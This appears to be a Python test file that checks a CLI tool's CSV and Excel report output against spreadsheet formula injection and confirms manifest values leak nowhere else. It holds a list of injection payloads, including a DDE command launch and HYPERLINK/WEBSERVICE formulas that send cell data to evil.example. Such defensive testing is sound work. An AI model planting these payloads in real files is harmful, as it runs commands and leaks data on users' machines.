"""Cells that a spreadsheet would run, and cells that are somebody's secret."""

import csv
import io
import json

import pytest

from tests.canaries import Canaries
from tests.echoing import Told, echoing, receipts, refusal
from tests.factories import (
    PROJECT,
    bindings,
    hex_id,
    latest,
    read_csv,
    write_job,
    write_manifest,
)

_BEGINNINGS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d"),
    *("\uff20", "'=", "''=", "=\n", '"='),
)
_ENDINGS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"ok")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML(CONCAT(A1),"//a"),\r\n=x\n,=y',
)
PAYLOADS = [begins + ends for begins in _BEGINNINGS for ends in _ENDINGS]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def dangerous(text: str) -> list[str]:
    """Return the cells that a spreadsheet would run, whatever it takes for a cell."""
    rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows for cell in row if cell.startswith(RUNS)]


def test_there_are_enough_of_them():
    assert len(PAYLOADS) >= 60
    assert dangerous("a,=b\n") == ["=b"]


@pytest.fixture
def payloads(folder):
    """A manifest whose every owner is a payload, as JSON, which keeps them as is."""
    wanted = [
        one._replace(owner=text)._asdict()
        for one, text in zip(bindings(len(PAYLOADS)), PAYLOADS, strict=True)
    ]
    (folder / "apis.json").write_text(json.dumps(wanted), encoding="utf-8")
    job = write_job(folder / "job.toml")
    job.write_text(job.read_text().replace("apis.csv", "apis.json"))
    return job


def test_no_carried_cell_is_a_formula_and_jsonl_has_it_as_it_was(
    bulkbind, folder, state, payloads
):
    assert bulkbind("run", payloads, "--report-dir", "reports").code == 0
    bulkbind("report", "latest", "--excel", "-o", "excel.csv")
    bulkbind("report", "latest", "--split-by", "owner", "-o", "split")

    run = latest(state)
    lines = (run / "report.jsonl").read_text(encoding="utf-8").splitlines()
    assert sorted(json.loads(line)["carried"]["owner"] for line in lines) == sorted(
        PAYLOADS
    )
    tables = [*run.glob("*.csv"), folder / "excel.csv", *(folder / "split").iterdir()]
    tables += (folder / "reports").rglob("*.csv")
    assert len(tables) > len(PAYLOADS)
    for path in tables:
        assert dangerous(path.read_bytes().decode("utf-8-sig")) == []


def test_a_report_that_is_a_manifest_again_means_what_it_meant(
    bulkbind, folder, state, payloads
):
    bulkbind("run", payloads)
    bulkbind("report", "latest", "-o", "again.csv")

    said = bulkbind("run", "again.csv", "--endpoint", "sandbox", "--json")

    assert said.code in {0, 3}, said.err
    lines = (latest(state) / "report.jsonl").read_text(encoding="utf-8").splitlines()
    assert sorted(json.loads(line)["carried"]["owner"] for line in lines) == sorted(
        PAYLOADS
    )


@pytest.mark.parametrize("text", [text for text in PAYLOADS if '"' not in text][::3])
def test_no_formula_goes_through_alone(bulkbind, folder, state, text):
    """A block of rows that are all alike may be written by a shorter way."""
    rows = [one._replace(owner=text) for one in bindings(3)]
    write_manifest(folder / "apis.csv", rows)

    bulkbind("run", write_job(folder / "job.toml"))

    table = (latest(state) / "report.csv").read_bytes().decode()
    assert len(read_csv(latest(state) / "report.csv")) == 3
    assert dangerous(table) == []


@pytest.mark.parametrize("text", PAYLOADS[::4])
def test_no_answer_is_a_formula(bulkbind, folder, state, monkeypatch, text):
    monkeypatch.setenv("BULKBIND_TOKEN", "a-token-of-no-worth")
    write_manifest(folder / "apis.csv", bindings(2, gateways=2))
    shapes = {
        hex_id("gateway", 0): lambda h: Told(400, refusal(text, code=text)),
        hex_id("gateway", 1): lambda h: Told(201, receipts(h, text)),
    }
    with echoing(shapes) as server:
        options = ("--endpoint", server.url, "--project-id", PROJECT)
        bulkbind("run", "apis.csv", *options, "--rate", "unlimited")

    assert len(read_csv(latest(state) / "report.csv")) == 2
    assert dangerous((latest(state) / "report.csv").read_bytes().decode()) == []


def test_a_carried_cell_is_in_the_report_and_the_pinned_copy_and_nowhere_else(
    bulkbind, folder, tmp_path, state
):
    """What a manifest carries is the user's own, and goes where they can see it."""
    canaries = Canaries()
    rows = [
        one._replace(owner=canaries.plant(f"cell {no}"))
        for no, one in enumerate(bindings(40))
    ]
    write_manifest(folder / "apis.csv", rows)
    job = write_job(folder / "job.toml", "[sandbox]\nmissing = 1\n")

    said = [
        bulkbind("plan", job),
        bulkbind("run", job),
        bulkbind("status", "latest"),
        bulkbind("runs"),
        bulkbind("verify", "latest"),
    ]

    run = latest(state)
    theirs = {"report.csv", "report.jsonl", "failed.csv", "manifest.csv.gz"}
    ours = [path for path in run.iterdir() if path.name not in theirs]
    ours += [path for path in state.iterdir() if path.name != "runs"]
    texts = [text for one in said for text in (one.out, one.err)]
    assert len(canaries.places) == 40
    assert len(canaries.found([], [run / "report.csv"])) == 40
    assert canaries.found(texts, [*ours, tmp_path / "host"]) == []
